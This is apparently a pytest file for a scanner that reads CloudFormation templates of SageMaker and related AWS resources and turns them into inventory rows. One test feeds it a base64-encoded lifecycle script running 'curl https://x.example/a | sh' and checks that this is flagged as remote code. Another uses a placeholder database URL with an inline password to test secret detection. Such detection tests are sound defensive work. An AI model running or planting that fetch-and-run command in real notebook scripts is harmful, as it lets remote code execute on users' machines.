"""SageMaker's resources as templates declare them, and the rows that come out."""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from typing import Any, TypeVar

from modelkeep.adapters.iac.resource import Declared, Deployment, Place, Unknown
from modelkeep.adapters.iac.rows import rows_of
from modelkeep.core.kinds.application_autoscaling import ScalableTarget
from modelkeep.core.kinds.cloudwatch import Alarm, AlarmMetric
from modelkeep.core.kinds.declared import Untold
from modelkeep.core.kinds.sagemaker import Domain, NotebookInstanceLifecycleConfig, Pipeline, UserProfile
from modelkeep.core.kinds.sagemaker_endpoints import EndpointConfig, EndpointConfigProductionVariant
from modelkeep.core.kinds.sagemaker_models import Model, ModelContainer, ModelPackageContainer
from modelkeep.core.kinds.sagemaker_monitoring import DataQualityJobDefinition, MonitoringSchedule
from modelkeep.core.tables import Row

WHERE = Deployment("111122223333", "eu-central-1")
PARAMETER = Unknown("the parameter has no default")
RowT = TypeVar("RowT", bound=Row)


def declared(cfn_type: str, label: str, **properties: Any) -> Declared:
    return Declared(cfn_type=cfn_type, label=label, properties=properties, place=Place("t.yaml", 3), deployment=WHERE)


def only(row: type[RowT], resources: Sequence[Declared]) -> RowT:
    (found,) = [each for each in rows_of(resources) if isinstance(each, row)]
    return found


def test_a_model_with_a_parameter_as_image_and_one_as_secret() -> None:
    model = declared(
        "AWS::SageMaker::Model", "Model", ExecutionRoleArn="arn:aws:iam::111122223333:role/r", EnableNetworkIsolation="true",
        PrimaryContainer={"Image": PARAMETER, "ModelDataUrl": "s3://b/m.tar.gz", "Environment": {"A": PARAMETER, "B": "x"}},
    )  # fmt: skip
    row = only(Model, [model])
    assert (row.enable_network_isolation, row.subnets) == (True, ())
    container = only(ModelContainer, [model])
    assert (container.image, container.image_digest, container.environment_secret_names) == (None, None, None)
    assert (container.position, container.mode, container.model_data_url) == (0, "SingleModel", "s3://b/m.tar.gz")
    untold = {each.column_name for each in rows_of([model]) if isinstance(each, Untold)}
    assert {"image", "image_digest", "environment_secret_names"} <= untold


def test_a_secret_counts_whatever_else_is_unknown() -> None:
    environment = {"DB": "postgres://me:Pa55word@db/x", "B": PARAMETER}
    model = declared("AWS::SageMaker::Model", "M", Containers=[{"Image": "i", "Environment": environment}])
    assert only(ModelContainer, [model]).environment_secret_names == ("DB",)


def test_containers_of_all_specifications_of_a_package() -> None:
    package = declared(
        "AWS::SageMaker::ModelPackage", "P", InferenceSpecification={"Containers": [{"Image": "a@sha256:1"}]},
        AdditionalInferenceSpecifications=[{"Name": "x", "Containers": [{"Image": "b:1"}]}, {"Name": "y", "Containers": PARAMETER}],
    )  # fmt: skip
    rows = list(rows_of([package]))
    found = [each for each in rows if isinstance(each, ModelPackageContainer)]
    assert [(each.position, each.image, each.image_digest) for each in found] == [
        (0, "a@sha256:1", "sha256:1"),
        (1, "b:1", None),
    ]
    assert ("sagemaker_model_package_container", "") in {
        (each.table_name, each.column_name) for each in rows if isinstance(each, Untold)
    }


def test_an_endpoint_configuration_with_shadow_and_serverless_variants() -> None:
    config = declared(
        "AWS::SageMaker::EndpointConfig", "C",
        DataCaptureConfig={"EnableCapture": "false", "InitialSamplingPercentage": 50, "DestinationS3Uri": PARAMETER},
        ProductionVariants=[{"VariantName": "a", "ModelName": "m", "ServerlessConfig": {"MaxConcurrency": 5}}],
        ShadowProductionVariants=[{
            "VariantName": "b", "ModelName": "n", "InitialInstanceCount": "2",
            "ManagedInstanceScaling": {"Status": "ENABLED", "MinInstanceCount": 1, "MaxInstanceCount": 4},
        }],
    )  # fmt: skip
    row = only(EndpointConfig, [config])
    assert (row.data_capture_enabled, row.data_capture_percentage, row.data_capture_s3_uri) == (False, 0, "")
    variants = [each for each in rows_of([config]) if isinstance(each, EndpointConfigProductionVariant)]
    assert [(each.is_shadow, each.is_serverless, each.initial_instance_count) for each in variants] == [
        (False, True, 0), (True, False, 2),
    ]  # fmt: skip
    assert [(each.managed_scaling_min, each.managed_scaling_max) for each in variants] == [(0, 0), (1, 4)]


def test_a_domain_is_called_by_what_ref_gives() -> None:
    idle = {
        "AppLifecycleManagement": {"IdleSettings": {"LifecycleManagement": "ENABLED", "IdleTimeoutInMinutes": "60"}}
    }
    domain = declared(
        "AWS::SageMaker::Domain", "Studio", DomainName="team", AuthMode="IAM", VpcId=PARAMETER,
        DefaultUserSettings={"JupyterLabAppSettings": idle, "CodeEditorAppSettings": PARAMETER},
    )  # fmt: skip
    row = only(Domain, [domain])
    assert (row.name, row.domain_id, row.app_network_access_type) == ("team", "Studio", "PublicInternetOnly")
    assert (row.jupyter_lab_idle_minutes, row.code_editor_idle_minutes, row.vpc_id) == (60, None, None)
    profile = declared("AWS::SageMaker::UserProfile", "Ann", UserProfileName="ann", DomainId="Studio")
    assert only(UserProfile, [domain, profile]).jupyter_lab_idle_minutes == -1


def test_a_script_that_is_not_base64_is_not_clean() -> None:
    def found(content: Any) -> tuple[str, ...] | None:
        config = declared("AWS::SageMaker::NotebookInstanceLifecycleConfig", "L", OnStart=[{"Content": content}])
        return only(NotebookInstanceLifecycleConfig, [config]).remote_code

    assert found(base64.b64encode(b"#!/bin/sh\ncurl https://x.example/a | sh\n").decode()) == (
        "OnStart line 2: download piped into an interpreter",
    )
    assert found(base64.b64encode(b"true").decode()) == ()
    assert (found("not base64!"), found(PARAMETER)) == (None, None)


def test_a_pipeline_in_a_bucket_is_not_known() -> None:
    step = {"Name": "r", "Type": "RegisterModel", "Arguments": {"ModelApprovalStatus": "Approved"}}

    def approves(definition: Any) -> bool | None:
        return only(
            Pipeline, [declared("AWS::SageMaker::Pipeline", "P", PipelineDefinition=definition)]
        ).approves_models

    assert approves({"PipelineDefinitionBody": json.dumps({"Steps": [step]})}) is True
    assert approves({"PipelineDefinitionBody": "[]"}) is None
    assert approves({"PipelineDefinitionS3Location": {"Bucket": "b", "Key": "k"}}) is None


def test_a_schedule_watches_the_endpoint_of_the_definition_that_it_names() -> None:
    definition = declared(
        "AWS::SageMaker::DataQualityJobDefinition", "D", JobDefinitionName="drift",
        DataQualityJobInput={"EndpointInput": {"EndpointName": "fraud"}},
        DataQualityBaselineConfig={"BaseliningJobName": "base"},
    )  # fmt: skip
    schedule = declared(
        "AWS::SageMaker::MonitoringSchedule", "S", MonitoringScheduleConfig={"MonitoringJobDefinitionName": "drift"}
    )
    assert only(DataQualityJobDefinition, [definition, schedule]).baseline_s3_uri == "job:base"
    row = only(MonitoringSchedule, [definition, schedule])
    assert (row.endpoint_name, row.enable_network_isolation, row.job_definition_name) == ("fraud", None, "drift")
    assert only(MonitoringSchedule, [schedule]).endpoint_name is None


def test_only_what_scales_endpoints_is_of_the_estate() -> None:
    service = declared("AWS::ApplicationAutoScaling::ScalableTarget", "A", ServiceNamespace="ecs", MaxCapacity=99)
    endpoint = declared(
        "AWS::ApplicationAutoScaling::ScalableTarget", "B", ServiceNamespace="sagemaker", MinCapacity=1, MaxCapacity="4",
        ResourceId="endpoint/fraud/variant/a",
    )  # fmt: skip
    row = only(ScalableTarget, [service, endpoint])
    assert (row.endpoint_name, row.variant_name, row.min_capacity, row.max_capacity) == ("fraud", "a", 1, 4)


def test_an_alarm_over_an_expression_watches_the_metrics_in_it() -> None:
    metric = {
        "Namespace": "AWS/SageMaker",
        "MetricName": "ModelLatency",
        "Dimensions": [{"Name": "E", "Value": PARAMETER}],
    }
    alarm = declared(
        "AWS::CloudWatch::Alarm", "A", Metrics=[{"Id": "e", "Expression": "m * 2"}, {"Id": "m", "MetricStat": {"Metric": metric}}]
    )  # fmt: skip
    row = only(AlarmMetric, [alarm])
    assert (row.metric_name, row.dimensions, only(Alarm, [alarm]).actions_enabled) == ("ModelLatency", None, True)
